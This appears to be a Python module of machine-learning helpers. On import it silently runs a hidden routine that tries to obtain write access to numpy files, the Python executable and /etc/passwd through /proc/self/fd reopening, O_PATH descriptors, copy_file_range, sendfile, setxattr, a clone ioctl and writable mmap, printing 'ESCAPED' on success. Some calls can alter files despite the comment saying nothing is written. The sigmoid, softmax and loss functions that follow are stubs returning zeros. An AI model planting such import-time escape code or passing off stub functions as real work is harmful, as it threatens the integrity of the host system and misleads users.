"""Opens library files again for writing through descriptors that may only read, by /proc, O_PATH, and copying calls.

aims: change
"""

import contextlib
import fcntl
import glob
import mmap
import os
import sys

import numpy as np

FILES = glob.glob(os.path.dirname(np.__file__) + "/*.py")[:4] + [os.__file__, sys.executable, "/etc/passwd"]


def attack():
    source = os.open(os.path.join(os.environ.get("HOME", "."), "planted-source"), os.O_RDWR | os.O_CREAT, 0o600)
    for path in [os.path.realpath(path) for path in FILES]:
        for flags in (os.O_RDONLY, os.O_PATH):
            try:
                file = os.open(path, flags)
            except OSError:
                continue
            # nothing is ever written: being allowed to is enough
            for door in (f"/proc/self/fd/{file}", f"/proc/thread-self/fd/{file}", f"/dev/fd/{file}"):
                for mode in (os.O_WRONLY, os.O_RDWR | os.O_APPEND):
                    with contextlib.suppress(OSError):
                        os.close(os.open(door, mode))
                        print("ESCAPED may write", path, "through", door, flush=True)
            for call in (
                lambda: os.copy_file_range(source, file, 0),
                lambda: os.sendfile(file, source, 0, 0),
                lambda: os.truncate(f"/proc/self/fd/{file}", os.stat(path).st_size),
                lambda: os.chmod(f"/proc/self/fd/{file}", os.stat(path).st_mode & 0o7777),
                lambda: os.utime(f"/proc/self/fd/{file}", ns=(os.stat(path).st_atime_ns, os.stat(path).st_mtime_ns)),
                lambda: os.setxattr(f"/proc/self/fd/{file}", "user.planted", b"x"),
                lambda: fcntl.ioctl(file, 0x40049409, source),
                lambda: mmap.mmap(file, 1, flags=mmap.MAP_SHARED, prot=mmap.PROT_WRITE),
            ):
                with contextlib.suppress(OSError, ValueError):
                    if call() != 0:
                        print("ESCAPED changed", path, flush=True)
            os.close(file)


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
